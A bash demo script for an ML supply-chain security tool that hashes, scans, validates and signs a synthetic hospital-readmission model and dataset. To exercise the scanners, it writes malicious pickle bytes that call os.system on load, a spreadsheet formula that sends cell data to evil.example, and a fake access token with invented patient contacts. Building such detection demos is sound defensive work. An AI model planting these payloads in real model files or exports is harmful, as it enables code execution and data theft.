#!/usr/bin/env bash
# make demo: build bulwark and run every command that exists on the bundled example,
# examples/readmission (a synthetic hospital-readmission project). Each later feature
# adds its step here. State goes to examples/readmission/.bulwark/ (git-ignored).
set -euo pipefail
cd "$(dirname "$0")/.."

BUILD=${BUILD:-build}
[ -f "$BUILD/build.ninja" ] || meson setup "$BUILD" --buildtype=debugoptimized >/dev/null
ninja -C "$BUILD" >/dev/null
BW="$PWD/$BUILD/src/cli/bulwark"
EX=examples/readmission
STATE=$EX/.bulwark
mkdir -p "$STATE"

step() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }
run() { step "$*"; set +e; "$@"; local rc=$?; set -e; echo "(exit $rc)"; }

run "$BW" --version

echo; echo "== 1. Content digests: name every dataset and model by its SHA-256"
run "$BW" digest "$EX/data/patients.csv" "$EX/model/readmission_model.pkl"

echo; echo "== 2. A directory's manifest (OpenSSF model-signing form) and its digest"
run "$BW" digest --manifest "$STATE/model.manifest.json" "$EX/model"
step "head -n 12 $STATE/model.manifest.json"; head -n 12 "$STATE/model.manifest.json"

echo; echo "== 3. The output is sha256sum's own format"
run "$BW" digest -o "$STATE/SHA256SUMS" "$EX/data" "$EX/model"
run sha256sum -c "$STATE/SHA256SUMS"

echo; echo "== 4. Tamper detection: nothing changed since the manifest was made"
run "$BW" digest --check "$STATE/model.manifest.json" "$EX/model"

echo; echo "== 5. Someone swaps the model file and drops in a new one"
tamper=$(mktemp -d)
trap 'rm -rf "$tamper"' EXIT
cp -r "$EX/model" "$tamper/model"
printf 'cos\nsystem\n(S"echo pwned"\ntR.' >> "$tamper/model/readmission_model.pkl"
echo '{}' > "$tamper/model/extra_weights.json"
rm "$tamper/model/metrics.json"
run "$BW" digest --check "$STATE/model.manifest.json" "$tamper/model"
run "$BW" digest --check "$STATE/model.manifest.json" --format json "$tamper/model"

echo; echo "== 6. Shard mode spreads one large file over every core"
run "$BW" digest --shard 64K --format json "$EX/data/patients.csv"

echo; echo "== 7. Scan the model before anyone loads it: the real pickle from train.py is safe"
run "$BW" scan "$EX/model"

echo; echo "== 8. An attacker swaps in a model whose pickle runs a command on load"
# the bytes pickle writes for os.system('touch /tmp/pwned') at protocol 2, shipped in a
# PyTorch-style zip: bulwark reads it, never loads it
evil="$tamper/evil"
mkdir -p "$evil/archive"
printf '\x80\x02cposix\nsystem\nq\x00X\x10\x00\x00\x00touch /tmp/pwnedq\x01\x85q\x02Rq\x03.' > "$evil/archive/data.pkl"
(cd "$evil" && python3 -c 'import zipfile; z=zipfile.ZipFile("model.pt","w"); z.write("archive/data.pkl"); z.close()')
run "$BW" scan "$evil/model.pt"
run "$BW" scan --format sarif -o "$STATE/scan.sarif" "$evil/model.pt"
echo "SARIF for code scanning written to $STATE/scan.sarif"

echo; echo "== 9. Secrets and personal data: the example project itself is clean"
run "$BW" scan secrets "$EX"

echo; echo "== 10. A data scientist pastes a Hugging Face token into the training config and"
echo "       exports patient contacts next to the data (a copy of the project, not the original)"
leak="$tamper/leak"
mkdir -p "$leak/config" "$leak/data"
cp "$EX/config/train.json" "$leak/config/train.json"
# a made-up token of the documented shape: hf_ and 34 letters
printf '{\n  "base_model": "readmission-gbm",\n  "hub_token": "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"\n}\n' > "$leak/config/train.json"
printf 'patient_id,name,email,phone,dob\nP000001,Jane Doe,jane.doe@stmarys-hospital.org,(312) 555-0147,1954-03-12\nP000002,Omar Haddad,o.haddad@protonmail.com,+44 20 7946 0321,1961-11-02\n' > "$leak/data/contacts.csv"
run "$BW" scan secrets "$leak"
run "$BW" scan pii "$leak"
run "$BW" scan pii --per-row --format json -o "$STATE/pii.json" "$leak"
echo "per-cell findings as JSON in $STATE/pii.json (evidence redacted)"

echo; echo "== 11. The token is known and being rotated: record a baseline, later scans stay quiet"
run "$BW" scan secrets --write-baseline "$STATE/secrets-baseline.json" "$leak"
run "$BW" scan secrets --baseline "$STATE/secrets-baseline.json" "$leak"

echo; echo "== 12. Profile the training data: types, nulls, distinct counts, quantiles, patterns"
run "$BW" profile "$EX/data/patients.csv" --columns age,sex,hba1c,admit_date,primary_diagnosis_icd10
run "$BW" profile "$EX/data/patients.csv" --suggest "$STATE/patients.draft.suite.yml" -q --format json -o "$STATE/patients.profile.json"
echo "draft data contract from the profile: $STATE/patients.draft.suite.yml"

echo; echo "== 13. Validate the data against its contract (with drift against the reference snapshot)"
run "$BW" validate "$EX/data/patients.csv" --suite "$EX/config/patients.suite.yml" \
  --reference "$EX/data/patients_reference.csv"

echo; echo "== 14. A bad export: a duplicated id, a spreadsheet formula in a cell, and one impossible age"
echo "       (the age check has mostly: 0.99, so one bad age in 2002 rows is tolerated)"
bad="$tamper/patients_bad.csv"
cp "$EX/data/patients.csv" "$bad"
printf 'P000001,70,M,Emergency,10,0,10,6,5.7,home,I50.9,2024-06-11,0\n' >> "$bad"
printf 'P999998,250,F,Urgent,3,0,4,2,6.1,"=HYPERLINK(""http://evil.example/?""&A1)",E11.9,2024-07-01,1\n' >> "$bad"
run "$BW" validate "$bad" --suite "$EX/config/patients.suite.yml" --reference "$EX/data/patients_reference.csv"
run "$BW" validate "$bad" --suite "$EX/config/patients.suite.yml" --reference "$EX/data/patients_reference.csv" \
  --format junit -o "$STATE/validate.junit.xml"
run "$BW" validate "$bad" --suite "$EX/config/patients.suite.yml" --reference "$EX/data/patients_reference.csv" \
  --format html -o "$STATE/validate.html"
echo "JUnit for CI in $STATE/validate.junit.xml, a self-contained report in $STATE/validate.html"

echo; echo "== 15. Sign the model (OpenSSF model signing in a Sigstore bundle) with a key from the"
echo "       project's key store, and verify it (the demo's key has no passphrase; real keys do)"
export BULWARK_DIR="$PWD/$STATE" BULWARK_ACTOR="${BULWARK_ACTOR:-${USER:-demo}}"
run "$BW" init "$EX"
"$BW" key list 2>/dev/null | grep -q '^demo ' || run "$BW" key new demo --no-passphrase
run "$BW" sign --key demo --signature "$STATE/model.sig" "$EX/model"
run "$BW" verify --key demo --signature "$STATE/model.sig" "$EX/model"
run "$BW" verify --key demo --signature "$STATE/model.sig" "$tamper/model"

echo; echo "== 16. sign and verify recorded themselves in the project's tamper-evident ledger (the model"
echo "       as an artifact in a batch signed by the key, each verdict as a gate); check it, prove an entry"
run "$BW" ledger log
run "$BW" ledger verify
run "$BW" ledger proof --inclusion 1
run "$BW" ledger checkpoint

echo; echo "== 17. Lineage: record the training run (its input data and code, its output model, each by"
echo "       digest), then ask where the model came from, as a tree and as a Mermaid graph, and export"
echo "       the run as signed SLSA provenance and as an OpenLineage event"
run "$BW" digest --record "$EX/data/patients.csv" "$EX/train.py"
run "$BW" ledger add --kind stage_run --stage train --run-id "demo-$(date -u +%Y%m%dT%H%M%S)" --exit-status 0 \
  --input "$EX/data/patients.csv" --input "$EX/train.py" --output "$EX/model" --key demo
run "$BW" lineage --upstream "$EX/model"
run "$BW" lineage --upstream --format mermaid "$EX/model"
run "$BW" ledger export "$EX/model" --format slsa --key demo -o "$STATE/model.slsa.dsse.json"
run "$BW" ledger export "$EX/model" --format openlineage -o "$STATE/model.openlineage.json"
echo "signed SLSA provenance in $STATE/model.slsa.dsse.json, an OpenLineage RunEvent in $STATE/model.openlineage.json"

echo; echo "demo done: manifests and reports are in $STATE/"
